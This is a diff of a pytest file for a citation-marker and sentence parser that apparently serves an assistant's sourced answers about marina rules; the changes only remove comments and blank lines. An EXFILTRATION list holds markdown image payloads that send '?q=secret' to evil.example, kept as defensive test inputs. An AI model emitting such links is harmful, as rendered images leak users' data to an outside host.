@@ -112,9 +112,6 @@ GATE = "The gate closes at 21:30 from April to September."
 METRE = "A berth costs 80 euros a metre."
 
 
-# --- sentences and their markers -------------------------------------------------------------
-
-
 @pytest.mark.parametrize(
     "text",
     [
@@ -137,7 +134,6 @@ def test_a_marker_belongs_to_the_sentence_it_stands_behind(text: str) -> None:
         one.text: [found.citations[number - 1].document_id for number in one.citations]
         for one in found.sentences
     }
-
     assert by_text[next(one for one in by_text if KNOTS[:-1] in one)] == ["rules-1"]
     assert by_text[next(one for one in by_text if METRE[:-1] in one)] == ["tariff-2"]
     assert all(one.text in {KNOTS, METRE} for one in found.sentences if one.citations)
@@ -232,12 +228,9 @@ def test_a_number_that_begins_a_line_is_part_of_its_sentence(text: str) -> None:
 def test_no_word_is_lost_or_added(pieces: list[str]) -> None:
     text = "".join(pieces)
     told = "".join(one.before + one.text for one in written(text).sentences)
-
     plain = re.sub(r"\[\^[^\]]*\]|\[1\]", "", text)
     assert re.findall(r"[^\W\d]", told) == re.findall(r"[^\W\d]", plain)
 
-
-# --- what never survives ---------------------------------------------------------------------
 
 EXFILTRATION = [
     "![x](https://evil.example/?q=secret)", "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
@@ -323,9 +316,6 @@ def test_no_text_takes_more_than_work_in_proportion(piece: str) -> None:
     assert_in_proportion(written, piece, 600)
 
 
-# --- what is accepted ------------------------------------------------------------------------
-
-
 @pytest.mark.parametrize(
     "marker",
     [
@@ -335,7 +325,6 @@ def test_no_text_takes_more_than_work_in_proportion(piece: str) -> None:
 )  # fmt: skip
 def test_a_marker_of_nothing_that_was_given_is_taken_out(marker: str) -> None:
     found = written(f"Nobody may whistle here. [^{marker}]")
-
     assert found.sentences[0].text == "Nobody may whistle here."
     assert found.citations == ()
     assert found.rejected == (marker,)
@@ -343,7 +332,6 @@ def test_a_marker_of_nothing_that_was_given_is_taken_out(marker: str) -> None:
 
 def test_of_two_sources_of_a_sentence_the_one_that_does_not_exist_is_taken_out() -> None:
     found = written(f"{KNOTS} [^rules-1:Speed][^rules-9:Speed]")
-
     assert found.sentences[0].citations == (1,)
     assert found.rejected == ("rules-9:Speed",)
 
@@ -370,7 +358,6 @@ def test_a_sentence_that_says_the_same_otherwise_or_nothing_has_nothing_beside_i
 
 def test_one_quotation_has_one_number() -> None:
     found = written(f"{KNOTS} [^rules-1:Speed] {METRE} [^tariff-2:Berths] {KNOTS} [^rules-1:Speed]")
-
     assert [one.citations for one in found.sentences] == [(1,), (2,), (1,)]
     assert [one.number for one in found.citations] == [1, 2]
 
@@ -386,8 +373,6 @@ def test_a_text_that_changed_meanwhile_is_not_cited() -> None:
         assert found.citations == ()
         assert found.sentences[0].citations == ()
 
-
-# --- ten thousand answers --------------------------------------------------------------------
 
 LINES = [
     line for text in TEXTS.values() for line in re.split(r"(?<=[.])\s|\n", text) if line.strip()
@@ -472,7 +457,6 @@ def test_of_adversarial_answers_no_citation_is_accepted_wrongly() -> None:
         found = written(text)
         shown += len(found.citations)
         wrong += accepted_wrongly(text, found)
-
     assert wrong == []
     assert shown > 300  # the loop is no loop over refusals
 
